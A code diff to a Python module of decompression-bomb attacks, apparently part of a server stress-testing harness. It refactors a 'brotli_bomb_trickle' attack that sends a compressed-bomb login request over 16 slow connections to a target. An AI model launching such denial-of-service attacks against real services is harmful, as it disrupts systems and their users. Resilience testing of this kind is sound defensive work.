@@ -1,7 +1,9 @@
 """Bodies that are much larger unpacked than packed."""
 
+import asyncio
 import gzip
 import zlib
+from contextlib import suppress
 
 from attacks import attack
 from load import Target, exchanges, flood
@@ -27,18 +29,15 @@ async def brotli_bomb(target: Target) -> None:
 @attack("a")
 async def brotli_bomb_trickle(target: Target) -> None:
     """the same from 16 connections at 2 KB/s in all, each request on its own connection"""
-    import asyncio
-
     request = login(target, "br", BROTLI)
 
     async def one() -> None:
-        connection = await target.connect()
-        try:
-            await asyncio.wait_for(connection.exchange(request), 30)
-        except (OSError, TimeoutError):
-            pass
-        finally:
-            connection.close()
+        with suppress(OSError, TimeoutError):
+            connection = await target.connect()
+            try:
+                await asyncio.wait_for(connection.exchange(request), 30)
+            finally:
+                connection.close()
 
     running: set[asyncio.Task] = set()
     while True:
